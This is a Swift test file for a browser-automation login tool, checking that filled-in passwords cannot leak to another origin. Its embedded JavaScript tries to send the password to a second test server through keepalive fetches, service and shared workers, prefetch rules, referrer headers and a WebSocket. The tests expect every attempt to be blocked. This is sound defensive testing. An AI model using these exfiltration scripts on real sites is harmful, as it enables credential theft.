#if os(Linux)
import Foundation
import HttpConvAuthFlows
import HttpConversation
import LandscapeSupport
import Testing

@testable import HttpConvWebStrategies

extension ChromiumTests {
    /// Requests beside the navigations that would carry answers elsewhere (security rule S14).
    @Suite(.landscape) struct HeldAnswerTests {
        private let landscape: Landscape
        private let bench: BrowserBench

        init() throws {
            landscape = try .current
            var bench = try BrowserBench(landscape)
            bench.options.answers = try FormAnswers(
                ["password": .text("wonderland")], origins: [landscape.url(.raw, "/")])
            self.bench = bench
        }

        /// Serves a page whose script gets the password `p` when the form is sent.
        private func serve(_ script: String) {
            bench.page(
                "/start",
                """
                <form><input name=password type=password><button>Go on</button></form><script>
                const elsewhere = '\(landscape.urlString(.main, "/taken"))';
                document.forms[0].onsubmit = async event => {
                  event.preventDefault();
                  const p = document.forms[0].password.value;
                  \(script)
                };
                </script>
                """)
        }

        /// The paths that were asked for at the other server.
        private var taken: Set<String> {
            Set(landscape.requests(origin: .main).map(\.path).filter { $0.hasPrefix("/taken") })
        }

        /// A browser that closes by itself sends requests that outlive their page, even if it has held them.
        @Test(arguments: [true, false]) func nothingIsSentAtTheEnd(isRefused: Bool) async throws {
            serve(
                """
                setInterval(() => {
                  fetch(elsewhere + '?' + p, {method: 'POST', mode: 'no-cors', keepalive: true, body: p}).catch(() => 0);
                }, 5);
                setTimeout(() => { location = \(isRefused ? "elsewhere + '?' + p" : "'/finish'") }, 100);
                """)
            let login = try bench.login()
            if isRefused {
                #expect(try await bench.failure(login).code == .answersNotAllowed)
            } else {
                #expect(try await bench.perform(login).finish.value.hasSuffix("/finish"))
            }
            #expect(taken.isEmpty)
        }

        /// Header fields, workers that belong to no page, and pages that are loaded in advance.
        @Test func otherWaysAreClosed() async throws {
            let script = """
                onfetch = event => event.respondWith(fetch(event.request));
                oninstall = () => skipWaiting();
                onactivate = event => event.waitUntil(clients.claim());
                onmessage = async event => {
                  await fetch('\(landscape.urlString(.main, "/taken/service"))', {
                    method: 'POST', mode: 'no-cors', body: event.data}).catch(() => 0);
                  event.source.postMessage('done');
                };
                """
            let shared = """
                onconnect = event => { event.ports[0].onmessage = message => fetch(
                  '\(landscape.urlString(.main, "/taken/shared"))', {method: 'POST', mode: 'no-cors', body: message.data}) };
                """
            for (path, text) in [("/service.js", script), ("/shared.js", shared)] {
                landscape.raw.respond(
                    path: path,
                    text:
                        "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nContent-Length: \(text.utf8.count)\r\n\r\n\(text)"
                )
            }
            serve(
                """
                const rules = document.createElement('script');
                rules.type = 'speculationrules';
                rules.textContent = JSON.stringify(
                  {prefetch: [{source: 'list', urls: [elsewhere + '/early?' + p], eagerness: 'immediate'}]});
                document.head.append(rules);
                new SharedWorker('/shared.js').port.postMessage(p);
                await fetch(elsewhere + '/referrer', {
                  mode: 'no-cors', referrer: '/x?' + p, referrerPolicy: 'unsafe-url'}).catch(() => 0);
                await navigator.serviceWorker.register('/service.js');
                const worker = (await navigator.serviceWorker.ready).active;
                if (!navigator.serviceWorker.controller) {
                  await new Promise(done => { navigator.serviceWorker.oncontrollerchange = done });
                }
                await fetch(elsewhere + '/through', {method: 'POST', mode: 'no-cors', body: p}).catch(() => 0);
                navigator.serviceWorker.onmessage = () => setTimeout(() => { location = '/finish' }, 500);
                worker.postMessage(p);
                """)
            // The page gets there only by an answer of its service worker.
            #expect(try await bench.perform(bench.login()).finish.value.hasSuffix("/finish"))
            #expect(landscape.count(path: "/service.js") > 0 && landscape.count(path: "/shared.js") > 0)
            #expect(taken == [])
        }

        /// A WebSocket cannot be held. The login ends, and the error says what has happened.
        @Test func aWebSocketEndsTheLogin() async throws {
            serve("new WebSocket(elsewhere.replace('http', 'ws') + '?' + p)")
            let error = try await bench.failure(bench.login())
            #expect(error.code == .answersNotAllowed, "\(error)")
            #expect(error.message.contains("\(landscape.urlString(.main, "")) by a WebSocket"), "\(error)")
            #expect(!"\(error)".contains("wonderland"))
        }
    }
}
#endif
